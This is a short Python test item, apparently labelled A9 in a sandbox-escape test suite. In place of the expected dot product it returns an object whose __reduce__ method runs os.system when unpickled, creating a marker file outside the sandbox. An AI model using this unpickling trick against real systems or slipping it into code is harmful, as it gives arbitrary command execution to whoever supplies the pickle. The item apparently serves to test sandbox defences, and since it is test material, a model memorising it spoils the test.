# number = "A9"
# tries = "returns an object that runs code when it is unpickled"
# says = 'should be 32'
inside_the_sandbox()

import os

class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {OUTSIDE['files']['planted']}",))

def dot(x, y):
    return Payload()
